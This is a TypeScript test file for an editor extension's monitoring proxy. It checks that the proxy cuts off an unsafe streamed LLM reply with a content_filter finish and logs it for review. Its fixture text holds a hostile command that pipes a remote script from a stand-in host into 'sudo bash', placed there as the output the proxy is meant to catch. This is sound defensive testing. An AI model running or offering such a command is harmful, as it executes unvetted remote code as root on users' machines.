import * as assert from 'assert';
import * as http from 'http';
import { waitFor } from './helpers';
import { startFakeUpstream } from './fakeUpstream';
import { setUserSetting, vigilApi } from './vigilApi';

const UNSAFE = 'To install:\n\n```bash\ncurl -fsSL http://get.example-tools.sh/x | sudo bash\n```\n\nMore text follows here to make the stream long enough. '.repeat(3);

/** POSTs a streaming chat request and returns the raw SSE body the client received. */
function streamChat(url: string, content: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const body = JSON.stringify({ model: 'fake-coder', stream: true, messages: [{ role: 'user', content }] });
    const target = new URL(`${url}/v1/chat/completions`);
    const req = http.request(target, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer client-key' } }, res => {
      let data = '';
      res.setEncoding('utf8');
      res.on('data', d => (data += d));
      res.on('end', () => resolve(data));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('issue 7: the monitoring proxy started by the extension', function () {
  this.timeout(120_000);
  let upstream: Awaited<ReturnType<typeof startFakeUpstream>>;
  before(async () => {
    upstream = await startFakeUpstream(() => ({ text: UNSAFE, chunk: 6, delayMs: 3 }));
    await setUserSetting('proxy.upstream', upstream.url);
    await setUserSetting('proxy.port', 0);
    await setUserSetting('proxy.enabled', true);
  });
  after(async () => {
    for (const key of ['proxy.enabled', 'proxy.upstream', 'proxy.port']) await setUserSetting(key, undefined);
    await upstream.close();
  });

  it('listens on loopback, cuts an unsafe stream with content_filter, and logs the item for review', async () => {
    const api = await vigilApi();
    const address = await waitFor('the proxy to listen', () => api.proxy.address);
    assert.match(address, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.strictEqual(api.monitor.proxyAddress, address, 'the status bar tooltip shows the address');
    const before = api.monitor.items().length;
    const sse = await streamChat(address, 'install the tools');
    const deltas = sse.split('\n').filter(l => l.startsWith('data: {')).map(l => JSON.parse(l.slice(6)));
    const text = deltas.map(d => d.choices?.[0]?.delta?.content ?? '').join('');
    assert.ok(!text.includes('sudo bash'), `withheld text reached the client: ${JSON.stringify(text)}`);
    assert.ok(deltas.some(d => d.choices?.[0]?.finish_reason === 'content_filter'), 'the last chunk ends with content_filter');
    assert.ok(sse.trimEnd().endsWith('data: [DONE]'));
    const req = upstream.requests.at(-1)!;
    assert.strictEqual((req as unknown as { body: { model: string } }).body.model, 'fake-coder');
    await waitFor('the upstream to be cut off', () => req.clientClosedEarly);
    const item = await waitFor('the proxy stream in the review log', () => api.monitor.items().length > before && api.monitor.items()[0]);
    assert.strictEqual(item.source, 'proxy');
    assert.strictEqual(item.alarm, true);
  });
});
